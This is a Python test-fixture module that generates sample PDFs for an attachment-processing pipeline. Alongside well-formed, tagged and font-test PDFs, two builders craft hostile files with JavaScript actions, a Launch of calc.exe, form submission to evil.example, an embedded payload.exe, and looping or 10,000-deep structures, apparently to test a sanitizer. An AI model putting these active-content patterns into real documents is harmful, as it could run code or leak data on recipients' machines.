"""Small PDFs made for tests: pre-read attachments, well-formed or hostile."""

from __future__ import annotations

from pathlib import Path

import pikepdf


def make_pdf(path: Path, pages: int, text: str = "Attachment page") -> Path:
    """A PDF of ``pages`` A4 pages, each saying ``TEXT N`` in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(
            f"BT /F1 24 Tf 72 760 Td ({text} {number}) Tj ET".encode("ascii")
        )
    pdf.save(path)
    return path


def make_smuggling_pdf(path: Path, pages: int = 2, text: str = "Smuggled page") -> Path:
    """Pages that draw plainly, with everything that acts hidden behind their resources.

    The page's font, picture, graphics state and form each carry actions: a
    JavaScript ``/A``, ``/AA`` with a launch, a form submission, a data import,
    links into other files; the font points at a second catalogue (with an
    open action, JavaScript in its ``/Names``, an embedded file and a form)
    and at an ``/EF`` file specification.  The form names itself among its
    resources (a loop), and the catalogue and pages carry actions as well.
    The content streams name the font ``/JavaScript`` and hold inline
    dictionaries (a marked-content property list, an inline picture's) with
    ``/JS`` and ``/OpenAction`` keys.
    """
    make_pdf(path, pages, text)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        script = pdf.make_indirect(
            pikepdf.Dictionary(
                S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('smuggled')")
            )
        )
        payload = pdf.make_stream(b"MZ smuggled payload", Type=pikepdf.Name.EmbeddedFile)
        file = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec,
                F=pikepdf.String("payload.exe"),
                EF=pikepdf.Dictionary(F=payload),
            )
        )
        actions = {
            "Launch": pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
            "SubmitForm": pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/submit")
            ),
            "ImportData": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=file),
            "GoToR": pikepdf.Dictionary(
                S=pikepdf.Name.GoToR, F=pikepdf.String("other.pdf"), D=pikepdf.Array([0])
            ),
            "GoToE": pikepdf.Dictionary(S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(R="/C")),
            "URI": pikepdf.Dictionary(
                S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example")
            ),
        }
        hooks = pikepdf.Dictionary(
            O=actions["Launch"], C=actions["SubmitForm"], PO=actions["ImportData"], K=script
        )
        catalog = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Catalog,
                OpenAction=script,
                Names=pikepdf.Dictionary(
                    JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["s", script])),
                    EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["payload.exe", file])),
                ),
                AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array()),
            )
        )
        font = pdf.pages[0].obj.Resources.Font.F1
        font.A = script
        font.AA = hooks
        font.FontDescriptor = catalog
        font.EF = pikepdf.Dictionary(F=payload)
        font.Catalog = catalog
        font.Next = actions["GoToR"]
        picture = pdf.make_stream(
            b"\x00\x80\xff", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=3,
            Height=1, ColorSpace=pikepdf.Name.DeviceGray, BitsPerComponent=8,
            A=actions["URI"], AF=pikepdf.Array([file]), OPI=pikepdf.Dictionary(),
        )  # fmt: skip
        form = pdf.make_stream(
            b"0 0 1 rg 0 0 200 20 re f BT /JavaScript 10 Tf 4 6 Td (A form) Tj ET\n"
            b"/Span << /MCID 0 /JS (app.alert('marked')) >> BDC EMC /Self BMC EMC /Hidden MP\n",
            Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
            BBox=pikepdf.Array([0, 0, 200, 20]), A=script, AA=hooks, OpenAction=script,
            Ref=pikepdf.Dictionary(F=file, Page=0), Names=catalog.Names, Metadata=payload,
        )  # fmt: skip
        form.Resources = pikepdf.Dictionary(
            Font=pikepdf.Dictionary(JavaScript=font),
            XObject=pikepdf.Dictionary(Self=form),
            Properties=pikepdf.Dictionary(Hidden=catalog),
        )
        state = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.ExtGState, ca=1, A=actions["GoToE"], AA=hooks,
                Font=pikepdf.Array([font, 12]),
            )
        )  # fmt: skip
        for page in pdf.pages:
            page.obj.Resources = pikepdf.Dictionary(
                Font=pikepdf.Dictionary(F1=font, JavaScript=font),
                XObject=pikepdf.Dictionary(Im1=picture, Fm1=form, Unused=catalog),
                ExtGState=pikepdf.Dictionary(GS1=state),
                Properties=pikepdf.Dictionary(MC0=catalog),
            )
            page.contents_add(
                b"/GS1 gs q 200 0 0 20 72 700 cm /Im1 Do Q q 1 0 0 1 72 650 cm /Fm1 Do Q\n"
                b"% /MC0 /Unused: named, so kept by name, and refused as no drawing's kind\n"
                b"BT /JavaScript 12 Tf 72 620 Td (Named JavaScript) Tj ET\n"
                b"/P << /MCID 1 /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> BDC EMC\n"
                b"q 20 0 0 20 300 600 cm BI /W 1 /H 1 /BPC 8 /CS /G /JS (app.alert(2))\n"
                b"ID \x80 EI Q\n"
            )
            page.obj.AA = pikepdf.Dictionary(O=script)
        pdf.Root.OpenAction = script
        pdf.save(path)
    return path


def make_deep_pdf(path: Path, depth: int, text: str = "Deep page") -> Path:
    """One page drawing a form that draws a form, ``depth`` forms deep, the last one text."""
    make_pdf(path, 1, text)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        page = pdf.pages[0]
        inner = pdf.make_stream(
            b"0 1 0 rg 0 0 10 10 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
            BBox=pikepdf.Array([0, 0, 10, 10]),
        )  # fmt: skip
        for _ in range(depth - 1):
            inner = pdf.make_stream(
                b"/N Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                BBox=pikepdf.Array([0, 0, 10, 10]),
                Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(N=inner)),
            )  # fmt: skip
        page.obj.Resources.XObject = pikepdf.Dictionary(D=inner)
        page.contents_add(b"q 1 0 0 1 72 600 cm /D Do Q\n")
        pdf.save(path)
    return path


def _png() -> bytes:
    """A small picture (a PNG, 4 by 2 pixels, red), for pre-reads with an image."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(2))
    header = struct.pack(">IIBBBBB", 4, 2, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def make_weasyprint_pdf(path: Path, body: str, language: str = "en", tagged: bool = True) -> Path:
    """A PDF WeasyPrint makes of ``body`` (HTML), tagged as PDF/UA-1 or plain (untagged)."""
    import base64

    import weasyprint

    picture = "data:image/png;base64," + base64.b64encode(_png()).decode("ascii")
    html = (
        f'<!doctype html><html lang="{language}"><head><title>Pre-read</title></head>'
        f"<body>{body.replace('PICTURE', picture)}</body></html>"
    )
    options = {"pdf_variant": "pdf/ua-1"} if tagged else {}
    weasyprint.HTML(string=html).write_pdf(path, **options)
    return path


#: A tagged pre-read's body: a heading, a paragraph, a picture with alt text, a second heading.
TAGGED_BODY = (
    "<h1>Chiffres du trimestre</h1><p>Les ventes ont augmenté de dix pour cent.</p>"
    '<p><img src="PICTURE" alt="Un graphique des ventes" style="width: 4cm"></p>'
    "<h2>Détails</h2><p>Le deuxième paragraphe.</p>"
    '<h2 style="break-before: page">Annexe</h2><p>La deuxième page.</p>'
)


def make_tagged_pdf(path: Path, language: str = "fr") -> Path:
    """A two-page PDF/UA-1 pre-read by WeasyPrint: headings, paragraphs, a picture with alt text."""
    return make_weasyprint_pdf(path, TAGGED_BODY, language)


def make_untagged_pdf(path: Path, pages: int = 2, text: str = "Untagged page") -> Path:
    """A PDF without tags (no structure tree), its fonts embedded, ``TEXT N`` on each page."""
    body = "".join(
        f'<p style="{"break-before: page" if number > 1 else ""}">{text} {number}</p>'
        for number in range(1, pages + 1)
    )
    return make_weasyprint_pdf(path, body, tagged=False)


def make_hostile_tagged_pdf(path: Path, depth: int = 10_000) -> Path:
    """A tagged pre-read whose structure tree is hostile.

    Its document element holds: an element whose kids loop back to the
    document; a chain of ``depth`` nested elements ending in a paragraph's
    marked content; a ``/K`` pointing at the catalogue; a link element with
    an object reference to an annotation carrying JavaScript; a custom type
    mapped to ``/P`` through a role map (the second paragraph), and one mapped
    in a loop (the first second-level heading); an element
    with a JavaScript action as its ``/A`` and a class map reference.
    """
    make_tagged_pdf(path)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        root = pdf.Root.StructTreeRoot
        document = root.K if not isinstance(root.K, pikepdf.Array) else root.K[0]
        page = pdf.pages[0].obj
        script = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )

        def element(kind: str, kids: list[object], parent: object) -> pikepdf.Object:
            return pdf.make_indirect(
                pikepdf.Dictionary(
                    Type=pikepdf.Name.StructElem, S=pikepdf.Name(kind), P=parent, Pg=page,
                    K=pikepdf.Array(kids),
                )
            )  # fmt: skip

        looping = element("/Div", [document], document)
        looping.K.append(looping)
        # The chain's last element takes the first paragraph's marked content (its spans).
        first_paragraph = next(kid for kid in document.K if kid.S == pikepdf.Name.P)
        chain = element("/P", list(first_paragraph.K), document)
        first_paragraph.K = pikepdf.Array()
        for _ in range(depth - 1):
            chain = element("/Div", [chain], document)
        to_catalogue = element("/Div", [pdf.Root], document)
        annotation = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=script,
                Rect=pikepdf.Array([0, 0, 10, 10]),
            )
        )  # fmt: skip
        link = element(
            "/Link", [pikepdf.Dictionary(Type=pikepdf.Name.OBJR, Obj=annotation, Pg=page)], document
        )
        # The second paragraph as a custom type, the heading before it as one mapped in a loop.
        paragraphs = [kid for kid in document.K if kid.S == pikepdf.Name.P]
        custom = element("/Paragraphe", list(paragraphs[2].K), document)
        paragraphs[2].K = pikepdf.Array()
        heading = next(kid for kid in document.K if kid.S == pikepdf.Name.H2)
        circular = element("/Boucle", list(heading.K), document)
        heading.K = pikepdf.Array()
        acting = element("/Div", [], document)
        acting.A = script
        acting.C = pikepdf.Name("/Hostile")
        acting.ID = pikepdf.String("hostile")
        root.RoleMap = pikepdf.Dictionary(
            Paragraphe=pikepdf.Name.P, Boucle=pikepdf.Name("/Encore"),
            Encore=pikepdf.Name("/Boucle"),
        )  # fmt: skip
        root.ClassMap = pikepdf.Dictionary(Hostile=pikepdf.Dictionary(A=script))
        document.K = pikepdf.Array(
            [looping, chain, to_catalogue, link, custom, circular, acting, *document.K]
        )
        pdf.save(path)
    return path


#: A line of the characters a WinAnsi font reaches beyond ASCII: accents, dashes, quotes, the Euro.
#: The Euro last: the standard 14's metrics of 1989 (pdfminer's) have no width for it.
STANDARD_FONTS_LINE = "Café à Zürich — “naïve” ½ Œuvre ß, fin’ €"
#: Fonts named and not embedded, as office and report tools leave them: each draws a line.
STANDARD_FONTS = (
    "Helvetica",
    "Helvetica-BoldOblique",
    "Times-Roman",
    "Times-Italic",
    "Courier-Bold",
    "Arial,BoldItalic",
)


def make_standard_fonts_pdf(
    path: Path, fonts: tuple[str, ...] = STANDARD_FONTS, pages: int = 2
) -> Path:
    """``pages`` pages, each drawing :data:`STANDARD_FONTS_LINE` once in each of ``fonts``.

    None is embedded.  The standard 14 are Type 1 fonts in WinAnsiEncoding,
    as ReportLab writes them; a name with a comma (``Arial,BoldItalic``) is a
    TrueType font whose descriptor lies: symbolic flags, a zero bounding box,
    no widths at all.  ``Symbol`` draws alpha, beta, gamma by its own
    encoding.  The pages share their font objects.
    """
    pdf = pikepdf.new()
    resources = pikepdf.Dictionary()
    lines = []
    for number, name in enumerate(fonts, start=1):
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name(f"/{name}")
        )
        text = STANDARD_FONTS_LINE.encode("cp1252")
        if name == "Symbol":
            text = b"abg"
        else:
            font.Encoding = pikepdf.Name.WinAnsiEncoding
        if "," in name:
            font.Subtype = pikepdf.Name.TrueType
            font.FontDescriptor = pikepdf.Dictionary(
                Type=pikepdf.Name.FontDescriptor, FontName=pikepdf.Name(f"/{name}"), Flags=4,
                FontBBox=pikepdf.Array([0, 0, 0, 0]), ItalicAngle=0, Ascent=0, Descent=0,
                CapHeight=0, StemV=0,
            )  # fmt: skip
        resources[f"/F{number}"] = pdf.make_indirect(font)
        escaped = text.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        start = b"BT /F%d 14 Tf 60 %d Td (" % (number, 780 - 30 * number)
        lines.append(start + escaped + b") Tj ET")
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = pikepdf.Dictionary(Font=resources)
        page.obj.Contents = pdf.make_stream(b"\n".join(lines))
    pdf.save(path)
    return path
